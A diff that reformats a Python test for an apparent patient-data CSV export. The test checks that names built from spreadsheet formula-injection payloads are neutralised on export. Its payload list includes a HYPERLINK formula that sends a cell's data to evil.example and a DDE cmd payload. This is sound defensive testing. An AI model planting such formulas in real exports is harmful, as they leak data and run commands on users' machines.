@@ -10,8 +10,16 @@ from service.extensions import db
 from service.models import Patient
 from service.timeutil import utcnow
 
-PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+1+1",
-            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+    "+1+1",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\uff1d1+1",
+]
 
 
 def exported_rows(client) -> list[dict[str, str]]:
@@ -23,8 +31,9 @@ def exported_rows(client) -> list[dict[str, str]]:
 def test_no_exported_name_starts_a_formula_and_phones_still_read_as_phones(app, staff):
     with app.app_context():
         for i, payload in enumerate(PAYLOADS):
-            db.session.add(Patient(first_name=payload, last_name=f"Martin{i}", phone=f"+3361234567{i}", language="fr",
-                                   created_at=utcnow()))
+            db.session.add(
+                Patient(first_name=payload, last_name=f"Martin{i}", phone=f"+3361234567{i}", language="fr", created_at=utcnow())
+            )
         db.session.commit()
 
     rows = exported_rows(staff)
